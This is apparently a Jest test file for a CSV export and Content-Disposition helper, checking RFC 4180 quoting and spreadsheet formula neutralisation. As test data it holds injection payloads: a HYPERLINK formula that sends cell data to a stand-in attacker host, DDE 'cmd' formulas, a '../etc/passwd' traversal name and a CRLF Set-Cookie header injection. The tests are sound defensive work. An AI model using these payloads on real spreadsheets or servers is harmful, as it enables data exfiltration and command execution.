import express from 'express';
import request from 'supertest';
import { CSV_CONTENT_TYPE, TRUNCATED_HEADER, capRows, contentDisposition, neutraliseFormula, sendCsv, toCsv } from '../../src/http/csv';

/**
 * A strict RFC 4180 reader: every record ends with CRLF; a field is either bare (no comma, quote, CR
 * or LF) or quoted with inner quotes doubled. Anything else throws, so sloppy output fails the test.
 */
function parseRfc4180(text: string): string[][] {
  const records: string[][] = [];
  let i = 0;
  while (i < text.length) {
    const record: string[] = [];
    for (;;) {
      let field = '';
      if (text[i] === '"') {
        i++;
        for (;;) {
          if (i >= text.length) throw new Error('unterminated quoted field');
          if (text[i] === '"') {
            if (text[i + 1] === '"') {
              field += '"';
              i += 2;
              continue;
            }
            i++;
            break;
          }
          field += text[i++];
        }
      } else {
        while (i < text.length && text[i] !== ',' && text[i] !== '\r') {
          if (text[i] === '"' || text[i] === '\n') throw new Error(`bare field holds ${JSON.stringify(text[i])} at ${i}`);
          field += text[i++];
        }
      }
      record.push(field);
      if (text[i] === ',') {
        i++;
        continue;
      }
      if (text.startsWith('\r\n', i)) {
        i += 2;
        break;
      }
      throw new Error(`expected a comma or CRLF at ${i}`);
    }
    records.push(record);
  }
  return records;
}

const columns = [
  { key: 'name', header: 'name' },
  { key: 'contact', header: 'contact' },
  { key: 'amount', header: 'amount_sar' },
] as const;

describe('toCsv', () => {
  it('writes a header line and CRLF records', () => {
    const csv = toCsv(columns, [{ name: 'Sara', contact: 'sara@example.com', amount: 49 }]);
    expect(csv).toBe('name,contact,amount_sar\r\nSara,sara@example.com,49\r\n');
  });

  it('quotes commas, quotes, CR and LF, and reads back exactly', () => {
    const rows = [
      { name: 'سارة العتيبي', contact: 'a,b', amount: 1 },
      { name: 'He said "hi"', contact: 'line1\nline2', amount: 2 },
      { name: 'cr\ronly', contact: 'crlf\r\ninside', amount: 3 },
      { name: '', contact: null, amount: undefined },
      { name: ' spaced ', contact: 'ü ø 漢字 😀', amount: 0.5 },
    ];
    const csv = toCsv(columns, rows);
    expect(csv).toContain('"a,b"');
    expect(csv).toContain('"He said ""hi"""');
    expect(csv).toContain('"line1\nline2"');
    expect(csv).toContain('"cr\ronly"');
    expect(parseRfc4180(csv)).toEqual([
      ['name', 'contact', 'amount_sar'],
      ['سارة العتيبي', 'a,b', '1'],
      ['He said "hi"', 'line1\nline2', '2'],
      ['cr\ronly', 'crlf\r\ninside', '3'],
      ['', '', ''],
      [' spaced ', 'ü ø 漢字 😀', '0.5'],
    ]);
  });

  it('neutralises formula starts in text cells, and leaves numbers alone', () => {
    const rows = [
      { name: '=HYPERLINK("http://evil.example/?x="&A1,"click")', contact: '+966500000001', amount: -5 },
      { name: '-5', contact: '@SUM(A1:A2)', amount: 5 },
      { name: '\t=1+2', contact: '\r=1+2', amount: -0.25 },
      { name: 'a=b', contact: 'x-y', amount: 0 },
    ];
    expect(parseRfc4180(toCsv(columns, rows))).toEqual([
      ['name', 'contact', 'amount_sar'],
      ['\'=HYPERLINK("http://evil.example/?x="&A1,"click")', '+966500000001', '-5'],
      ["'-5", "'@SUM(A1:A2)", '5'],
      ["'\t=1+2", "'\r=1+2", '-0.25'],
      ['a=b', 'x-y', '0'],
    ]);
  });

  it('writes dates as ISO 8601, booleans as words, and an empty export as the header alone', () => {
    const cols = [
      { key: 'at', header: 'created_at' },
      { key: 'on', header: 'activated' },
    ] as const;
    expect(
      toCsv(cols, [
        { at: new Date('2026-05-05T05:05:05.505Z'), on: true },
        { at: null, on: false },
      ]),
    ).toBe('created_at,activated\r\n2026-05-05T05:05:05.505Z,true\r\n,false\r\n');
    expect(toCsv(cols, [])).toBe('created_at,activated\r\n');
  });

  it('adds a byte order mark only when asked', () => {
    expect(toCsv(columns, [], { bom: true })).toBe('\ufeffname,contact,amount_sar\r\n');
  });

  it.each([
    ['=1', "'=1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@x', "'@x"],
    ['\tx', "'\tx"],
    ['\rx', "'\rx"],
    [' =1', ' =1'],
    ['1-2', '1-2'],
    ['', ''],
  ])('neutraliseFormula(%j) is %j', (input, output) => {
    expect(neutraliseFormula(input)).toBe(output);
  });

  // b2b-portal.md, GET /b2b/roster/export: "contact is the unmasked e-mail or phone". A cell that is
  // exactly an E.164 number (+ then 7-15 digits) or an e-mail address cannot run as a formula, so it is
  // written as it is; anything else starting like a formula keeps its quote.
  it.each([
    ['+966500000001', '+966500000001'],
    ['+447902881418', '+447902881418'],
    ['+1234567', '+1234567'],
    ['+123456789012345', '+123456789012345'],
    ['-dash@example.com', '-dash@example.com'],
    ['+tag.name@mail.example.co', '+tag.name@mail.example.co'],
    ['sara@example.com', 'sara@example.com'],
  ])('a bare E.164 number or e-mail address stays as it is: %j', (input, output) => {
    expect(neutraliseFormula(input)).toBe(output);
    expect(toCsv(columns, [{ contact: input }])).toBe(`name,contact,amount_sar\r\n,${output},\r\n`);
  });

  it.each([
    '+1+2',
    '+123456', // 6 digits: too short for E.164
    '+1234567890123456', // 16 digits: too long
    '+0123456789', // no country code starts with 0
    '+966 500 000 001',
    '+966500000001\n',
    '+966500000001=1',
    '=cmd',
    "=cmd|' /C calc'!A0",
    '=1+2@example.com',
    "+cmd|'/Ccalc'!A0@example.com",
    "-2+3+cmd|'/Ccalc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '@example.com',
    '-2+3',
    '+SUM(A1)@example.com',
    '-x@example',
    '\t+966500000001',
    '\r+966500000001',
  ])('anything else starting like a formula is still neutralised: %j', (input) => {
    expect(neutraliseFormula(input)).toBe(`'${input}`);
  });
});

describe('contentDisposition', () => {
  it('CSV exports (extended when needed) read exactly as the spec writes them; stored documents always carry filename*', () => {
    expect(contentDisposition('people.csv', 'when-needed')).toBe('attachment; filename=people.csv');
    expect(contentDisposition('charges.csv', 'when-needed')).toBe('attachment; filename=charges.csv');
    expect(contentDisposition('تقرير.csv', 'when-needed')).toBe(
      "attachment; filename=_.csv; filename*=UTF-8''%D8%AA%D9%82%D8%B1%D9%8A%D8%B1.csv",
    );
    expect(contentDisposition('proof.pdf')).toBe("attachment; filename=proof.pdf; filename*=UTF-8''proof.pdf");
  });

  it.each([
    ['تقرير.csv', "attachment; filename=_.csv; filename*=UTF-8''%D8%AA%D9%82%D8%B1%D9%8A%D8%B1.csv"],
    ['bank transfer.pdf', 'attachment; filename="bank transfer.pdf"; filename*=UTF-8\'\'bank%20transfer.pdf'],
    ['Relevé été.pdf', 'attachment; filename="Releve ete.pdf"; filename*=UTF-8\'\'Relev%C3%A9%20%C3%A9t%C3%A9.pdf'],
    ['a"b\\c.pdf', "attachment; filename=a_b_c.pdf; filename*=UTF-8''a%22b%5Cc.pdf"],
    ['100%.pdf', "attachment; filename=100_.pdf; filename*=UTF-8''100%25.pdf"],
    ["it's (1).png", "attachment; filename=\"it's (1).png\"; filename*=UTF-8''it%27s%20%281%29.png"],
    ['../etc/passwd', "attachment; filename=.._etc_passwd; filename*=UTF-8''..%2Fetc%2Fpasswd"],
    ['x\r\nSet-Cookie: a=b.pdf', 'attachment; filename="x_Set-Cookie: a=b.pdf"; filename*=UTF-8\'\'x%0D%0ASet-Cookie%3A%20a%3Db.pdf'],
    ['\ud800.pdf', "attachment; filename=_.pdf; filename*=UTF-8''%EF%BF%BD.pdf"],
  ])('%j', (filename, header) => {
    expect(contentDisposition(filename)).toBe(header);
  });

  it('round-trips filename* through percent-decoding', () => {
    const name = 'كشف الحساب 2026 (نهائي).csv';
    const encoded = /filename\*=UTF-8''(.+)$/.exec(contentDisposition(name))![1];
    expect(encoded).toMatch(/^[A-Za-z0-9!#$&+\-.^_`|~%]+$/);
    expect(decodeURIComponent(encoded)).toBe(name);
  });

  it('refuses an empty name', () => {
    expect(() => contentDisposition('')).toThrow(TypeError);
  });
});

describe('capRows', () => {
  it('keeps the first rows and says whether any were left out', () => {
    expect(capRows([1, 2, 3], 3)).toEqual({ rows: [1, 2, 3], truncated: false });
    expect(capRows([1, 2, 3, 4], 3)).toEqual({ rows: [1, 2, 3], truncated: true });
    expect(capRows([], 3)).toEqual({ rows: [], truncated: false });
  });
});

describe('sendCsv', () => {
  const app = express();
  app.get('/full', (_req, res) => sendCsv(res, { filename: 'links.csv', csv: toCsv(columns, []) }));
  app.get('/clipped', (_req, res) => sendCsv(res, { filename: 'links.csv', csv: 'a\r\n', truncated: true }));

  it('sets the CSV headers, and X-Truncated only when clipped', async () => {
    const full = await request(app).get('/full');
    expect(full.headers['content-type']).toBe(CSV_CONTENT_TYPE);
    expect(full.headers['content-disposition']).toBe('attachment; filename=links.csv');
    expect(full.headers['cache-control']).toBe('private, no-store');
    expect(full.headers[TRUNCATED_HEADER.toLowerCase()]).toBeUndefined();
    expect(full.text).toBe('name,contact,amount_sar\r\n');

    const clipped = await request(app).get('/clipped');
    expect(clipped.headers['x-truncated']).toBe('true');
  });
});
